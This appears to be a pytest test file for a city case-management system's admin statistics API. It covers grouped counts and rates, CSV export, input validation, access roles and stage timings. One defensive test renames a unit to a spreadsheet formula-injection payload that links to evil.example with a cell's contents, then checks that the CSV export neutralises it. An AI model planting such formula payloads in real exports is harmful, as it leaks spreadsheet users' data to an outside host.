"""Statistics: measures over the cases reported in a window, grouped, as JSON and CSV."""

import csv
import datetime as dt
import io

import pytest

from accounts.api_keys import create_api_client
from accounts.tables import Staff
from core import clock
from core.db import transaction
from tests.cases_city import AUTO_CATEGORY, IN_GRID, build_city
from tests.helpers import assert_problem, upload_photo

STATS = "/api/admin/stats"
ADMIN_CASES = "/api/admin/cases"


@pytest.fixture
async def city(api):
    return await build_city(api)


@pytest.fixture
async def slow_city(api, settings_env):
    """The city for tests that move the clock by days: tokens that last."""
    settings_env(CITYOPS_ACCESS_TOKEN_TTL_SECONDS=str(90 * 86400))
    return await build_city(api)


async def _report(api, citizen, category, seed):
    body = {
        "category": category,
        "location": {"lat": IN_GRID[0], "lon": IN_GRID[1]},
        "mediaIds": [await upload_photo(api.client, citizen, seed=seed)],
    }
    response = await api.post("/api/citizen/reports", json=body, headers=citizen.headers)
    assert response.status_code == 201, response.text
    return response.json()["id"]


async def _window():
    now = clock.now()
    return {
        "from": (now - dt.timedelta(hours=1)).isoformat(),
        "to": (now + dt.timedelta(hours=1)).isoformat(),
    }


@pytest.fixture
async def cases(api, city):
    alice, bob = await api.citizen(), await api.citizen()
    closed = await _report(api, alice, AUTO_CATEGORY, 1)  # accepted and dispatched at once
    await _report(api, bob, "E0102", 2)  # waits for verification
    async with transaction():
        key = (await create_api_client(name="cam", kind="camera", trusted=True)).key
    event = {
        "externalId": "e1",
        "kind": "camera",
        "category": AUTO_CATEGORY,
        "location": {"lat": IN_GRID[0], "lon": IN_GRID[1]},
    }
    assert (
        await api.post("/api/intake/events", json=event, headers={"X-Api-Key": key})
    ).status_code == 201
    for action in ("resolve", "close"):
        response = await api.post(
            f"/api/admin/cases/{closed}/{action}",
            json={"note": "已清理"},
            headers=city.operator.headers,
        )
        assert response.status_code == 200, response.text
    rated = await api.post(
        f"/api/citizen/reports/{closed}/rating", json={"score": 5}, headers=alice.headers
    )
    assert rated.status_code == 200, rated.text
    return closed


async def test_grouped_by_source_with_rates_and_totals(api, city, cases):
    response = await api.get(
        STATS, params={**await _window(), "groupBy": "source"}, headers=city.operator.headers
    )
    assert response.status_code == 200, response.text
    body = response.json()
    rows = {row["key"]: row for row in body["rows"]}
    assert set(rows) == {"citizen", "camera"}
    citizen = rows["citizen"]
    assert (citizen["reported"], citizen["accepted"], citizen["dispatched"], citizen["closed"]) == (
        2,
        1,
        1,
        1,
    )
    assert citizen["closureRate"] == 1.0 and citizen["satisfactionRate"] == 1.0
    assert citizen["avgRating"] == 5.0 and citizen["onTimeRate"] == 1.0
    assert citizen["reworkRate"] == 0.0 and citizen["missedReportRate"] == 1.0
    assert citizen["secondsToAccept"] >= 0 and citizen["secondsToClose"] >= 0
    camera = rows["camera"]
    assert (camera["reported"], camera["accepted"], camera["closed"]) == (1, 1, 0)
    assert camera["closureRate"] == 0.0 and camera["satisfactionRate"] is None
    totals = body["totals"]
    assert totals["reported"] == 3 and totals["accepted"] == 2
    assert totals["missedReportRate"] == 0.5


async def test_grouped_by_unit_grid_category_day_and_inspector(api, city, cases):
    window = await _window()
    headers = city.operator.headers
    units = (await api.get(STATS, params={**window, "groupBy": "unit"}, headers=headers)).json()
    labelled = {row["label"]: row["reported"] for row in units["rows"]}
    assert sum(labelled.values()) == 3 and any(
        "执法" in label or "中队" in label for label in labelled if label
    ), labelled
    english = (
        await api.get(
            STATS, params={**window, "groupBy": "category", "lang": "en"}, headers=headers
        )
    ).json()
    assert {row["key"] for row in english["rows"]} == {AUTO_CATEGORY, "E0102"}
    assert all(row["label"] and row["label"] != row["key"] for row in english["rows"])
    grids = (await api.get(STATS, params={**window, "groupBy": "grid"}, headers=headers)).json()
    assert len(grids["rows"]) == 1 and grids["rows"][0]["label"].startswith("370202")
    days = (await api.get(STATS, params={**window, "groupBy": "day"}, headers=headers)).json()
    today = clock.now().astimezone(clock.city_zone()).date().isoformat()
    assert sum(r["reported"] for r in days["rows"]) == 3 and today in {
        r["key"] for r in days["rows"]
    }
    inspectors = (
        await api.get(STATS, params={**window, "groupBy": "inspector"}, headers=headers)
    ).json()
    checker = {row["key"]: row for row in inspectors["rows"]}
    assert str(city.operator.subject_id) in checker  # the operator closed (checked) one case
    assert checker[str(city.operator.subject_id)]["checks"] == 1


async def test_csv_export(api, city, cases):
    response = await api.get(
        STATS,
        params={**await _window(), "groupBy": "source", "format": "csv"},
        headers=city.operator.headers,
    )
    assert response.status_code == 200
    assert response.headers["content-type"].startswith("text/csv")
    assert "attachment" in response.headers["content-disposition"]
    text = response.content.decode("utf-8-sig")
    rows = list(csv.DictReader(io.StringIO(text)))
    assert [r["key"] for r in rows] == ["camera", "citizen", "all"]
    assert rows[1]["closureRate"] == "1.0" and rows[0]["satisfactionRate"] == ""


async def test_empty_window_and_bad_input(api, city):
    admin = await api.staff("admin")
    far = {"from": "2020-01-01T00:00:00Z", "to": "2020-02-01T00:00:00Z"}
    empty = (await api.get(STATS, params=far, headers=admin.headers)).json()
    assert empty["rows"] == [] and empty["totals"] is None and empty["groupBy"] == "unit"
    for params, status, code in (
        (
            {"from": "2020-02-01T00:00:00Z", "to": "2020-01-01T00:00:00Z"},
            422,
            "request.invalid_range",
        ),
        (
            {"from": "2020-01-01T00:00:00Z", "to": "2022-01-01T00:00:00Z"},
            422,
            "request.invalid_range",
        ),
        ({**far, "groupBy": "mood"}, 400, "request.invalid"),
        ({**far, "format": "xlsx"}, 400, "request.invalid"),
        ({"from": "yesterday", "to": "2020-01-01T00:00:00Z"}, 400, "request.invalid"),
        ({"to": "2020-01-01T00:00:00Z"}, 400, "request.invalid"),
    ):
        assert_problem(await api.get(STATS, params=params, headers=admin.headers), status, code)
    assert_problem(
        await api.get(STATS, params=far, headers=city.inspector.headers), 403, "auth.role_forbidden"
    )
    citizen = await api.citizen()
    assert_problem(
        await api.get(STATS, params=far, headers=citizen.headers), 403, "auth.wrong_audience"
    )


async def test_csv_export_makes_formulas_inert(api, city, cases):
    """A unit named like a formula must not become one in the operator's spreadsheet."""
    admin = await api.staff("admin")
    unit_id = city.unit_ids["370202001-ZF"]
    evil = '=HYPERLINK("http://evil.example/?x="&A1,"点击")'
    renamed = await api.patch(
        f"/api/admin/org-units/{unit_id}", json={"nameZh": evil}, headers=admin.headers
    )
    assert renamed.status_code == 200, renamed.text
    response = await api.get(
        STATS,
        params={**await _window(), "groupBy": "unit", "format": "csv"},
        headers=city.operator.headers,
    )
    rows = list(csv.DictReader(io.StringIO(response.content.decode("utf-8-sig"))))
    labels = [r["label"] for r in rows]
    assert "'" + evil in labels and evil not in labels
    assert not any(value.startswith(("=", "+", "@")) for r in rows for value in r.values())


async def _stages(api, session, window) -> dict:
    response = await api.get(STATS, params={**window, "groupBy": "source"}, headers=session.headers)
    assert response.status_code == 200, response.text
    totals = response.json()["totals"]
    return {
        stage: totals[f"secondsTo{stage}"] for stage in ("Accept", "Dispatch", "Resolve", "Close")
    }


async def test_stage_times_add_up_every_round_of_rework_and_reopening(api, slow_city):
    """Rework and reopening stamp dispatched_at anew; the stage times come from the history,
    so each is the sum of the case's rounds in that stage and never negative."""
    city = slow_city
    citizen = await api.citizen()
    window = await _window()
    case_id = await _report(api, citizen, AUTO_CATEGORY, 1)  # accepted and dispatched at once
    headers = city.operator.headers
    handling = [dt.timedelta(hours=5), dt.timedelta(hours=3), dt.timedelta(hours=2)]
    checking = [dt.timedelta(hours=1), dt.timedelta(minutes=30), dt.timedelta(minutes=45)]

    async def act(action: str, wait: dt.timedelta) -> None:
        clock.travel(wait)
        response = await api.post(
            f"{ADMIN_CASES}/{case_id}/{action}", json={"note": "已处理"}, headers=headers
        )
        assert response.status_code == 200, response.text

    await act("resolve", handling[0])
    await act("rework", checking[0])  # 返工: dispatched again, dispatched_at moves on
    await act("resolve", handling[1])
    await act("close", checking[1])
    clock.travel(dt.timedelta(days=1))
    reopened = await api.post(
        f"/api/citizen/reports/{case_id}/reopen", json={"reason": "没修好"}, headers=citizen.headers
    )
    assert reopened.status_code == 200, reopened.text
    # Reopened and being handled again: the checks so far are settled, handling is not
    # (it counts when the case is resolved again), and nothing is negative.
    mid = await _stages(api, city.operator, window)
    assert mid["Resolve"] is None
    assert mid["Close"] == pytest.approx(sum(checking[:2], dt.timedelta()).total_seconds(), abs=5)
    await act("resolve", handling[2])
    await act("close", checking[2])
    stages = await _stages(api, city.operator, window)
    assert all(seconds is not None and seconds >= 0 for seconds in stages.values()), stages
    assert stages["Accept"] == pytest.approx(0, abs=5)  # auto-accepted and dispatched
    assert stages["Dispatch"] == pytest.approx(0, abs=5)
    assert stages["Resolve"] == pytest.approx(sum(handling, dt.timedelta()).total_seconds(), abs=5)
    assert stages["Close"] == pytest.approx(sum(checking, dt.timedelta()).total_seconds(), abs=5)


async def test_stage_times_of_a_case_waiting_for_verification_and_dispatch(api, slow_city):
    """Time to accept and to dispatch are the waits in those states; a case not yet
    dispatched has no dispatch time, rather than a negative or a zero one."""
    city = slow_city
    citizen = await api.citizen()
    window = await _window()
    case_id = await _report(api, citizen, "E0102", 2)  # waits for verification
    clock.travel(dt.timedelta(minutes=40))
    accepted = await api.post(
        f"{ADMIN_CASES}/{case_id}/accept",
        json={"autoDispatch": False},
        headers=city.operator.headers,
    )
    assert accepted.status_code == 200, accepted.text
    waiting = await _stages(api, city.operator, window)
    assert waiting["Accept"] == pytest.approx(40 * 60, abs=5)
    assert waiting["Dispatch"] is None and waiting["Resolve"] is None
    clock.travel(dt.timedelta(minutes=25))
    dispatched = await api.post(
        f"{ADMIN_CASES}/{case_id}/dispatch",
        json={"unitId": city.unit_ids["370202-HW"]},
        headers=city.operator.headers,
    )
    assert dispatched.status_code == 200, dispatched.text
    done = await _stages(api, city.operator, window)
    assert done["Dispatch"] == pytest.approx(25 * 60, abs=5) and done["Resolve"] is None


async def test_time_suspended_is_no_handling_time(api, slow_city):
    """挂账 stops the clock of handling: the handling stage is the time dispatched, before
    the suspension and after the resumption."""
    city = slow_city
    citizen = await api.citizen()
    window = await _window()
    case_id = await _report(api, citizen, AUTO_CATEGORY, 3)  # dispatched at once
    unit_id = (await api.get(f"{ADMIN_CASES}/{case_id}", headers=city.operator.headers)).json()[
        "case"
    ]["unitId"]
    for wait, action, body in (
        (dt.timedelta(hours=2), "suspend", {"reason": "等待配件"}),
        (dt.timedelta(hours=10), "resume", {"unitId": unit_id}),
        (dt.timedelta(hours=3), "resolve", {"note": "已处理"}),
        (dt.timedelta(minutes=20), "close", {}),
    ):
        clock.travel(wait)
        response = await api.post(
            f"{ADMIN_CASES}/{case_id}/{action}", json=body, headers=city.operator.headers
        )
        assert response.status_code == 200, response.text
    stages = await _stages(api, city.operator, window)
    assert stages["Resolve"] == pytest.approx(5 * 3600, abs=5)
    assert stages["Close"] == pytest.approx(20 * 60, abs=5)


async def test_a_hand_back_waits_in_dispatch_and_handling_adds_both_units(api, slow_city):
    """转办: the unit hands the case back; the wait for a new unit is dispatch time, and the
    time each unit held it is handling time."""
    city = slow_city
    squad = await api.staff("handler")
    await Staff.update({Staff.org_unit_id: city.unit_ids["370202001-ZF"]}).where(
        Staff.id == squad.subject_id
    )
    window = await _window()
    case_id = await _report(api, await api.citizen(), AUTO_CATEGORY, 4)  # to the squad at once
    clock.travel(dt.timedelta(hours=1))
    handed_back = await api.post(
        f"/api/inspector/cases/{case_id}/transfer",
        json={"reason": "不归我们管"},
        headers=squad.headers,
    )
    assert handed_back.status_code == 200, handed_back.text
    waiting = await _stages(api, city.operator, window)
    assert waiting["Dispatch"] is None and waiting["Resolve"] is None  # back in the queue
    for wait, action, body in (
        (dt.timedelta(hours=2), "dispatch", {"unitId": city.unit_ids["370202-HW"]}),
        (dt.timedelta(hours=3), "resolve", {"note": "已处理"}),
        (dt.timedelta(minutes=10), "close", {}),
    ):
        clock.travel(wait)
        response = await api.post(
            f"{ADMIN_CASES}/{case_id}/{action}", json=body, headers=city.operator.headers
        )
        assert response.status_code == 200, response.text
    stages = await _stages(api, city.operator, window)
    assert stages["Dispatch"] == pytest.approx(2 * 3600, abs=5)
    assert stages["Resolve"] == pytest.approx(4 * 3600, abs=5)
    assert stages["Close"] == pytest.approx(10 * 60, abs=5)
